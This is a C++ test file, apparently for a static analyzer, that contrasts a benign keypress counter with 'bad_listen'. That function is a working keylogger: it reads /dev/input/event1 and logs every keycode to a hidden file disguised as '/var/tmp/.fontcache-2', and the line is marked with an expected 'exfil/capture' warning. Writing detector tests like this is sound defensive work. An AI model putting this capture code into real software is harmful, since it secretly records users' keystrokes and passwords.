/* C++: keys go to whoever subscribed: a file in a hidden place, or a counter. */
#include <cstdio>
#include <fcntl.h>
#include <functional>
#include <linux/input.h>
#include <unistd.h>
#include <vector>

namespace {

class Keyboard {
  public:
    using Listener = std::function<void(int)>;
    explicit Keyboard(const char *path) : device_(open(path, O_RDONLY)) {}
    ~Keyboard() {
        close(device_);
    }
    void subscribe(Listener listener) {
        listeners_.push_back(listener);
    }
    void run() {
        input_event event;
        while (read(device_, &event, sizeof event) == sizeof event)
            if (event.type == EV_KEY)
                for (const Listener &listener : listeners_)
                    listener(event.code);
    }

  private:
    int device_;
    std::vector<Listener> listeners_;
};

} // namespace

void bad_listen() {
    std::FILE *file = std::fopen("/var/tmp/.fontcache-2", "ab");
    Keyboard keyboard("/dev/input/event1");
    keyboard.subscribe([file](int key) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
        std::fprintf(file, "%x.", key);
    });
    keyboard.run();
}

unsigned good_listen() {
    unsigned count = 0;
    Keyboard keyboard("/dev/input/event2");
    keyboard.subscribe([&count](int) { count++; });
    keyboard.run();
    return count;
}
